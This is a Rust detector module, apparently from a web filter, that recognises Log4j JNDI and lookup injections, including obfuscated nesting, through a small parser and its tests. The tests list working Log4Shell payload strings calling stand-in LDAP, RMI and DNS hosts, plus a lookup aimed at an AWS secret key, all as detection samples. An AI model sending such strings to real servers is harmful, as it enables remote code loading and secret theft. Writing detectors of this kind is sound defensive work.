//! Lookups of Log4j: `${jndi:ldap://…}`, however it is taken apart (`${${lower:j}ndi:…}`, `${${::-j}…}`).

use super::rules::{Rule, rule};

static JNDI: Rule = rule!(Jndi, "JNDI lookup", "Tried the Log4Shell hole: makes a Java logger load code from elsewhere");
static LOOKUP: Rule = rule!(Jndi, "Log4j lookup", "Tried to read the server's environment through a Java logger");

/// Deeper nesting is looked at no further, so that time stays linear.
const MAX_DEPTH: usize = 24;

/// A lookup in a decoded lower-case text, if any.
pub(super) fn find(text: &[u8]) -> Option<&'static Rule> {
    memchr::memmem::find(text, b"${")?;
    let plain = resolve(text);
    let has = |needle: &[u8]| memchr::memmem::find(&plain, needle).is_some();
    if has(b"${jndi:") || has(b"jndi:ldap") || has(b"jndi:dns") || has(b"jndi:rmi") {
        return Some(&JNDI);
    }
    [&b"${env:"[..], b"${sys:", b"${java:", b"${ctx:", b"${lower:", b"${upper:", b"${hostname}", b"${::-", b"${k8s:", b"${docker:"]
        .iter()
        .any(|lookup| has(lookup))
        .then_some(&LOOKUP)
}

/// Innermost lookups that only stand for letters are replaced by them.
fn resolve(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut open = Vec::new();
    let mut rest = text;
    while let Some((&byte, after)) = rest.split_first() {
        rest = after;
        match byte {
            b'$' if after.first() == Some(&b'{') && open.len() < MAX_DEPTH => {
                open.push(out.len());
                out.extend_from_slice(b"${");
                rest = after.get(1..).unwrap_or_default();
            }
            b'}' if !open.is_empty() => {
                let start = open.pop().unwrap_or_default();
                match letters(&out[start + 2..]) {
                    Some(letters) => {
                        out.truncate(start);
                        out.extend_from_slice(&letters);
                    }
                    None => out.push(b'}'),
                }
            }
            // A dotless i (U+0131) becomes I in upper case.
            0xC4 if after.first() == Some(&0xB1) => {
                out.push(b'i');
                rest = after.get(1..).unwrap_or_default();
            }
            _ => out.push(byte),
        }
    }
    out
}

/// What a lookup that only hides letters stands for: `lower:j`, `upper:j`, `date:'j'`, `::-j`, `env:none:-j`.
fn letters(inside: &[u8]) -> Option<Vec<u8>> {
    if let Some(at) = memchr::memmem::rfind(inside, b":-") {
        return Some(inside[at + 2..].to_vec());
    }
    let value = inside.strip_prefix(b"lower:").or_else(|| inside.strip_prefix(b"upper:")).or_else(|| inside.strip_prefix(b"date:"))?;
    Some(value.iter().copied().filter(|&byte| byte != b'\'').collect())
}

#[cfg(test)]
mod tests {
    #[test]
    fn lookups_are_found_however_they_are_hidden() {
        for text in [
            "${jndi:ldap://x.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${lower:${lower:jndi}}:ldap://x}",
            "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:dns://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "${jnd${sys:sys_name:-i}:ldap://x}",
            "${jnd${upper:\u{131}}:ldap://x}",
            "${jndi:ldap://cut-off",
            "${env:aws_secret_access_key}",
        ] {
            assert!(super::find(text.as_bytes()).is_some(), "{text}");
        }
        for text in ["${campaign.name}", "jndi tutorial", "$ {jndi", "price ${amount}", "${user.name:-friend}"] {
            assert!(super::find(text.as_bytes()).is_none(), "{text}");
        }
    }
}
